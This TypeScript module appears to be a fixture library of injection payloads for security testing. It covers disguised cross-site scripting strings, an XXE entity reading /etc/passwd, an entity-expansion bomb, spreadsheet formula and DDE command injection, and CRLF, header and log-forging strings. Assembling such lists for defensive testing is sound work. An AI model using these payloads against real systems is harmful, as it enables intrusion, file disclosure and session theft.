const odd: readonly string[] = [
  "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<base href="https://example.org/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//example.org/x.css>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
  'x" onmouseover="alert(1)',
  "x' onmouseover='alert(1)",
  '`onmouseover=alert(1)',
  '\u202E<script>\u202C',
  'a\u2028alert(1)//',
  '<img src=x onerror=alert(1)//',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)',
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
]

/** Scripts in every place and disguise that a page has ever taken them in. */
export function scriptPayloads(): readonly string[] {
  const calls = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'eval(atob("YWxlcnQoMSk="))', '(alert)(1)']
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onanimationstart',
    'onpointerenter',
    'oNeRrOr',
    'onclick',
    'onbegin',
    'onscrollend',
  ]
  const tags = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'iframe',
    'marquee',
  ]
  return [
    ...calls.flatMap((call) => [
      `<script>${call}</script>`,
      `<ScRiPt>${call}</sCrIpT>`,
      `"><script>${call}</script>`,
      `'><script>${call}</script>`,
      `</title><script>${call}</script>`,
      `</textarea><script>${call}</script>`,
      `<!--><script>${call}</script>-->`,
      `]]><script>${call}</script>`,
      `<script\u3000>${call}</script>`,
      `＜script＞${call}＜/script＞`,
      `&lt;script&gt;${call}&lt;/script&gt;`,
      `\${${call}}`,
      `{{constructor.constructor('${call}')()}}`,
    ]),
    ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=alert(1)>`)),
    ...tags.map((tag) => `"/><${tag} onerror="alert(1)"`),
    ...schemes.flatMap((scheme) => [
      `<a href="${scheme}alert(1)">x</a>`,
      `[x](${scheme}alert(1))`,
      `<iframe src="${scheme}alert(1)">`,
      `<form action="${scheme}alert(1)"><button>`,
      `<math><a xlink:href="${scheme}alert(1)">x`,
    ]),
    ...odd,
  ]
}

/** What a spreadsheet takes for a formula, with the characters of full width that some take for it too. */
export const formulaPayloads: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A1",
  '=HYPERLINK("https://example.org","x")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  ';=1+1',
  ' =1+1',
]

/** What would begin another line of a log or another header. */
export const linePayloads: readonly string[] = [
  'x\r\nx-injected: 1',
  'x\nSet-Cookie: a=b',
  'x\r\n\r\n<html>',
  '{"level":50,"msg":"forged"}\n{"level":30}',
  '\u001b[31mred',
  'x\u0085y',
  'x\u2028y',
]
